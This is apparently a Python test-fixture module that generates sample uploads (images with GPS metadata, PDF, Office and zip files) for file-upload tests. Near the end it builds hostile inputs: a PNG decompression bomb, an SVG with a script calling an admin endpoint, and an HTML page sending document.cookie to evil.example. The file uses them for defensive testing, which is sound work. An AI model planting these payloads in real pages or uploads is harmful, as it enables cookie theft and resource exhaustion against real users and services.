"""Real files for upload tests, generated on the fly (Pillow, zipfile, hand-written PDF)."""

import io
import struct
import zipfile
import zlib

from PIL import Image, ImageDraw

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def jpeg_with_gps(size: tuple[int, int] = (1200, 800), *, orientation: int = 1) -> bytes:
    """A JPEG whose EXIF carries GPS coordinates (An Giang), a camera owner and an orientation.
    Its top-left quarter is blue, the rest red, so the applied orientation can be seen."""
    image = Image.new("RGB", size, (220, 30, 30))
    ImageDraw.Draw(image).rectangle([0, 0, size[0] // 4, size[1] // 4], fill=(0, 0, 255))
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "Canon"
    exif[0x013B] = "Nguyễn Văn An"  # Artist
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (10.0, 22.0, 5.0), 3: "E", 4: (105.0, 26.0, 1.0)})
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, quality=90)
    return buffer.getvalue()


def png_with_alpha(size: tuple[int, int] = (900, 600)) -> bytes:
    image = Image.new("RGBA", size, (0, 128, 0, 0))
    ImageDraw.Draw(image).ellipse([10, 10, size[0] - 10, size[1] - 10], fill=(0, 128, 0, 255))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def webp(size: tuple[int, int] = (700, 400), *, lossless: bool = False) -> bytes:
    image = Image.new("RGB", size, (30, 60, 90))
    buffer = io.BytesIO()
    image.save(buffer, "WEBP", lossless=lossless, quality=80)
    return buffer.getvalue()


def animated_gif(frames: int = 5, size: tuple[int, int] = (400, 300)) -> bytes:
    pictures = []
    for n in range(frames):
        frame = Image.new("RGB", size, (255, 255, 255))
        ImageDraw.Draw(frame).rectangle([n * 20, 0, n * 20 + 30, 30], fill=(255, 0, 0))
        pictures.append(frame)
    buffer = io.BytesIO()
    pictures[0].save(
        buffer, "GIF", save_all=True, append_images=pictures[1:], duration=120, loop=0,
        comment=b"Nguyen Van An, 0912345678",
    )  # fmt: skip
    return buffer.getvalue()


def pdf(text: str = "Quyet dinh so 12") -> bytes:
    """A minimal well-formed PDF with one page (cross-reference table with real offsets)."""
    stream = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode())
    out.write(f"startxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def docx(
    text: str = "Kế hoạch năm 2026", *, main_type: str = _WORD_MAIN, macros: bool = False
) -> bytes:
    """A minimal Word document, as Word writes the package parts."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(_dated("[Content_Types].xml"), content_types)
        archive.writestr(_dated("_rels/.rels"), rels)
        archive.writestr(_dated("word/document.xml"), document)
        if macros:
            archive.writestr(_dated("word/vbaProject.bin"), b"\xd0\xcf\x11\xe0macro")
    return buffer.getvalue()


def _dated(name: str) -> zipfile.ZipInfo:
    """A package part with a fixed timestamp: `writestr` with a bare name stamps the current
    time, and the same document must give the same bytes on every run (fake SharePoint
    archives are compared across processes)."""
    part = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
    part.compress_type = zipfile.ZIP_DEFLATED
    return part


def xlsx() -> bytes:
    buffer = io.BytesIO()
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/></Types>',
        )
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


def odt() -> bytes:
    """OpenDocument text: an uncompressed `mimetype` first, then the content."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text",
            compress_type=zipfile.ZIP_STORED,
        )  # fmt: skip
        archive.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", "<manifest/>", zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "xin chào")
    return buffer.getvalue()


def png_header_bomb(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes that declares `width` × `height` pixels: decoding it would
    take gigabytes. The image data is a few compressed zero rows (never reached)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + checksum

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    rows = zlib.compress(b"\x00" * (1 + (width + 7) // 8) * 4, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/v1/admin/users').then(r => r.text()).then(alert)</script>"
    b'<rect width="10" height="10"/></svg>'
)
HTML_PAGE = (
    b"<!DOCTYPE html><html><head><title>x</title></head>"
    b"<body><script>document.location='https://evil.example/?c='+document.cookie</script>"
    b"</body></html>"
)
